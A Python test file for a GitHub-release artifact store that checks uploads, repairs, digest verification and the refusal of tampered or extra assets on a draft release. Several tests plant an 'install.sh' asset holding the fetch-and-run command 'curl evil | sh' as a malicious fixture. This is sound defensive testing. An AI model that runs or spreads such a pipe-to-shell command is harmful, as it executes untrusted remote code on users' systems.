from __future__ import annotations

import hashlib
from pathlib import Path

import pytest

from valet.errors import GitHubError, IntegrityError, VersionError
from valet.manifest import Artifact, build_manifest
from valet.store import open_store
from valet.store.github_release import GitHubReleaseStore

from .fakes import FakeGitHub

SHA = "c" * 40


def _setup(tmp_path: Path, digests: bool = True):  # type: ignore[no-untyped-def]
    files = {}
    for name, data in (("pkg-1.3.0.tar.gz", b"tarball" * 100), ("pkg-1.3.0-py3-none-any.whl",
                                                                 b"wheel" * 50)):
        p = tmp_path / "dist" / name
        p.parent.mkdir(exist_ok=True)
        p.write_bytes(data)
        files[name] = p
    manifest = build_manifest("1.3.0", files.values(), repo="o/r", sha=SHA)
    fake = FakeGitHub(digests=digests)
    store = open_store("github-release", gh=fake, session=fake, repo="o/r", tag="1.3.0",
                       version="1.3.0")
    return fake, store, manifest, files


def test_upload_creates_one_draft_with_files_and_manifest(tmp_path: Path) -> None:
    fake, store, manifest, files = _setup(tmp_path)
    ref = store.upload(manifest, files, notes="### Features\n- a")
    (rel,) = fake.releases.values()
    assert rel.draft and rel.tag_name == "1.3.0" and rel.target_commitish == SHA
    assert rel.body == "### Features\n- a"
    assert ref.release_id == rel.id
    assert fake.names(rel.id) == sorted([*files, "manifest.json"])
    assert [n for op, n in fake.log if op == "upload"][-1] == "manifest.json"
    listed = store.list()
    assert {n: f.digest for n, f in listed.items() if n != "manifest.json"} == {
        a.name: a.sha256 for a in manifest.artifacts}


def test_a_draft_made_by_this_upload_is_listed_once_after_the_uploads(tmp_path: Path) -> None:
    """The POST that made the draft says it holds nothing: no listing before the uploads,
    the one after them checks the whole set."""
    fake, store, manifest, files = _setup(tmp_path)
    store.upload(manifest, files)
    listings = [i for i, (op, url) in enumerate(fake.log)
                if op == "GET" and url.endswith("/assets")]
    uploads = [i for i, (op, _) in enumerate(fake.log) if op == "upload"]
    assert len(listings) == 1 and listings[0] > max(uploads)


def test_an_asset_slipped_onto_the_new_draft_before_the_uploads_is_refused(
        tmp_path: Path) -> None:
    """Someone uploads install.sh to the draft between its creation and valet's uploads:
    not listed before them, it is in the listing after them, and the upload fails."""
    fake, store, manifest, files = _setup(tmp_path)
    made = fake.create_git_release

    def create_then_slip(*a: object, **kw: object):  # type: ignore[no-untyped-def]
        rel = made(*a, **kw)  # type: ignore[arg-type]
        fake.add_asset(rel.id, "install.sh", b"curl evil | sh")
        return rel

    fake.create_git_release = create_then_slip  # type: ignore[method-assign]
    with pytest.raises(GitHubError, match="unexpected asset 'install.sh'"):
        store.upload(manifest, files)


@pytest.mark.parametrize("digests", [True, False])
def test_rerun_repairs_partial_upload_without_duplicates(tmp_path: Path, digests: bool) -> None:
    fake, store, manifest, files = _setup(tmp_path, digests)
    store.upload(manifest, files)
    (rel,) = fake.releases.values()
    by_name = {a["name"]: i for i, a in fake.assets.items()}
    # one asset truncated, one asset gone, one stray asset, one "starter" half-upload
    fake.assets[by_name["pkg-1.3.0.tar.gz"]]["data"] = b"tarb"
    del fake.assets[by_name["pkg-1.3.0-py3-none-any.whl"]]
    fake.add_asset(rel.id, "old-1.2.9.tgz", b"x")
    fake.log.clear()
    again = open_store("github-release", gh=fake, session=fake, repo="o/r", tag="1.3.0",
                       version="1.3.0")
    again.upload(manifest, files)
    assert len(fake.releases) == 1
    assert fake.names(rel.id) == sorted([*files, "manifest.json"])
    uploaded = [n for op, n in fake.log if op == "upload"]
    assert sorted(uploaded) == sorted(["pkg-1.3.0.tar.gz", "pkg-1.3.0-py3-none-any.whl",
                                       "manifest.json"])
    for a in fake.assets.values():
        if a["name"] in files:
            assert a["data"] == files[a["name"]].read_bytes()


def test_rerun_with_everything_in_place_uploads_nothing(tmp_path: Path) -> None:
    fake, store, manifest, files = _setup(tmp_path)
    store.upload(manifest, files)
    fake.log.clear()
    GitHubReleaseStore(gh=fake, session=fake, repo="o/r", tag="1.3.0",  # type: ignore[arg-type]
                       version="1.3.0").upload(manifest, files)
    assert not [op for op, _ in fake.log if op in ("upload", "delete", "create_release")]


def test_same_size_different_bytes_is_replaced_even_without_digests(tmp_path: Path) -> None:
    fake, store, manifest, files = _setup(tmp_path, digests=False)
    store.upload(manifest, files)
    for a in fake.assets.values():
        if a["name"] == "pkg-1.3.0.tar.gz":
            a["data"] = b"X" * len(a["data"])
    fake.log.clear()
    GitHubReleaseStore(gh=fake, session=fake, repo="o/r", tag="1.3.0",  # type: ignore[arg-type]
                       version="1.3.0").upload(manifest, files)
    assert ("upload", "pkg-1.3.0.tar.gz") in fake.log


def test_a_published_release_is_never_uploaded_to(tmp_path: Path) -> None:
    fake, store, manifest, files = _setup(tmp_path)
    fake.create_git_release("1.3.0", "1.3.0", "", draft=False)
    with pytest.raises(VersionError, match="already has a published release for 1.3.0"):
        store.upload(manifest, files)
    with pytest.raises(VersionError, match="refusing to delete the published release"):
        store.delete()


def test_download_verified_and_tampering(tmp_path: Path) -> None:
    fake, store, manifest, files = _setup(tmp_path)
    ref = store.upload(manifest, files)
    reader = open_store("github-release", gh=fake, session=fake, repo="o/r", tag="1.3.0",
                        version="1.3.0", release_id=ref.release_id)
    got = reader.download_verified(list(manifest.artifacts), tmp_path / "dl")
    for name, path in got.items():
        assert path.read_bytes() == files[name].read_bytes()
    assert reader.download_manifest() == manifest  # type: ignore[attr-defined]

    # same size, other bytes: the digest check refuses it and leaves no file behind (the
    # digest GitHub lists already differs: refused before anything is downloaded)
    for a in fake.assets.values():
        if a["name"] == "pkg-1.3.0.tar.gz":
            a["data"] = b"Y" * len(a["data"])
    dest = tmp_path / "dl2"
    with pytest.raises(IntegrityError, match="pkg-1.3.0.tar.gz: sha256"):
        reader.download_verified(list(manifest.artifacts), dest)
    assert not (dest / "pkg-1.3.0.tar.gz").exists()
    assert not dest.exists() or not [p for p in dest.iterdir() if p.name.endswith(".part")]


def test_download_missing_or_wrong_size(tmp_path: Path) -> None:
    fake, store, manifest, files = _setup(tmp_path)
    store.upload(manifest, files)
    extra = Artifact("other.zip", 3, hashlib.sha256(b"abc").hexdigest())
    with pytest.raises(IntegrityError, match="lacks other.zip"):
        store.download_verified([*manifest.artifacts, extra], tmp_path / "d")
    bigger = [Artifact(a.name, a.size + 1, a.sha256) for a in manifest.artifacts]
    with pytest.raises(IntegrityError, match="stored size"):
        store.download_verified(bigger, tmp_path / "d")


def test_release_id_for_another_tag_is_refused(tmp_path: Path) -> None:
    fake, store, manifest, files = _setup(tmp_path)
    ref = store.upload(manifest, files)
    other = open_store("github-release", gh=fake, session=fake, repo="o/r", tag="1.4.0",
                       version="1.4.0", release_id=ref.release_id)
    with pytest.raises(IntegrityError, match="is for tag '1.3.0', not '1.4.0'"):
        other.list()


def test_delete_drops_the_draft(tmp_path: Path) -> None:
    fake, store, manifest, files = _setup(tmp_path)
    store.upload(manifest, files)
    store.delete()
    assert fake.releases == {}


# -- the draft holds exactly the approved files (and valet's own manifest.json) ----------


def _reader(fake: FakeGitHub, release_id: int | None, sha: str | None = SHA):  # type: ignore[no-untyped-def]
    return GitHubReleaseStore(gh=fake, session=fake, repo="o/r", tag="1.3.0",  # type: ignore[arg-type]
                              version="1.3.0", release_id=release_id, sha=sha)


def test_an_extra_asset_on_the_draft_refuses_before_any_download(tmp_path: Path) -> None:
    """An SDK committer uploads install.sh to the draft after the request: the approved
    files all verify, but the draft would go public with it."""
    fake, store, manifest, files = _setup(tmp_path)
    ref = store.upload(manifest, files)
    fake.add_asset(ref.release_id, "install.sh", b"curl evil | sh\n")
    fake.log.clear()
    with pytest.raises(IntegrityError, match="install.sh") as err:
        _reader(fake, ref.release_id).download_verified(list(manifest.artifacts),
                                                       tmp_path / "dl")
    assert "not approved" in err.value.message
    assert not [u for op, u in fake.log if op == "GET" and "/releases/assets/" in u]
    assert not (tmp_path / "dl").exists() or not list((tmp_path / "dl").iterdir())


def test_a_half_finished_upload_counts_as_an_extra_file(tmp_path: Path) -> None:
    fake, store, manifest, files = _setup(tmp_path)
    ref = store.upload(manifest, files)
    fake.add_asset(ref.release_id, "install.sh", b"curl", state="starter")
    with pytest.raises(IntegrityError, match=r"install.sh \(a half-finished upload, state "
                                             r"starter"):
        _reader(fake, ref.release_id).download_verified(list(manifest.artifacts),
                                                       tmp_path / "dl")


def test_an_approved_name_held_twice_is_refused(tmp_path: Path) -> None:
    """GitHub keeps names unique per release, but a half-finished upload can hold the
    name beside the real one: the copy nobody approved counts as extra."""
    fake, store, manifest, files = _setup(tmp_path)
    ref = store.upload(manifest, files)
    fake.add_asset(ref.release_id, "pkg-1.3.0.tar.gz", b"tarb", state="new")
    with pytest.raises(IntegrityError, match=r"pkg-1.3.0.tar.gz \(a half-finished upload"):
        _reader(fake, ref.release_id).download_verified(list(manifest.artifacts),
                                                       tmp_path / "dl")


def test_a_manifest_other_than_valets_own_is_refused(tmp_path: Path) -> None:
    """manifest.json goes public with the release: it must be the one valet wrote for
    this request (its bytes follow from the request), not one an SDK committer put there."""
    fake, store, manifest, files = _setup(tmp_path)
    ref = store.upload(manifest, files)
    (aid,) = [i for i, a in fake.assets.items() if a["name"] == "manifest.json"]
    fake.assets[aid]["data"] = b'{"files": [], "note": "trust install.sh"}\n'
    with pytest.raises(IntegrityError, match="manifest.json"):
        _reader(fake, ref.release_id).download_verified(list(manifest.artifacts),
                                                       tmp_path / "dl")
    # valet's own manifest passes (the baseline of the case above)
    fake.assets[aid]["data"] = manifest.dumps().encode()
    got = _reader(fake, ref.release_id).download_verified(list(manifest.artifacts),
                                                         tmp_path / "ok")
    assert sorted(got) == sorted(files)


def test_a_deleted_approved_asset_is_refused(tmp_path: Path) -> None:
    fake, store, manifest, files = _setup(tmp_path)
    ref = store.upload(manifest, files)
    (aid,) = [i for i, a in fake.assets.items() if a["name"] == "pkg-1.3.0.tar.gz"]
    del fake.assets[aid]
    with pytest.raises(IntegrityError, match="lacks pkg-1.3.0.tar.gz"):
        _reader(fake, ref.release_id).download_verified(list(manifest.artifacts),
                                                       tmp_path / "dl")


def test_the_recorded_draft_is_used_never_another_draft_of_the_tag(tmp_path: Path) -> None:
    """GitHub lets several drafts share a tag: an attacker's second draft with other bytes
    under the approved names is never read; if the recorded draft is gone, nothing is."""
    fake, store, manifest, files = _setup(tmp_path)
    ref = store.upload(manifest, files)
    evil = fake.create_git_release("1.3.0", "1.3.0", "", draft=True)
    # made the older one (a lower id), so "the oldest draft of the tag" would be it
    fake.releases[1] = fake.releases.pop(evil.id)
    evil.id = 1
    for art in manifest.artifacts:
        fake.add_asset(evil.id, art.name, b"E" * art.size)
    fake.add_asset(evil.id, "manifest.json", manifest.dumps().encode())
    assert _reader(fake, None).find_release() is evil  # what an unrecorded id would pick
    got = _reader(fake, ref.release_id).download_verified(list(manifest.artifacts),
                                                         tmp_path / "dl")
    for name, path in got.items():
        assert path.read_bytes() == files[name].read_bytes()
    del fake.releases[ref.release_id]
    with pytest.raises(IntegrityError):
        _reader(fake, ref.release_id).download_verified(list(manifest.artifacts),
                                                       tmp_path / "dl2")
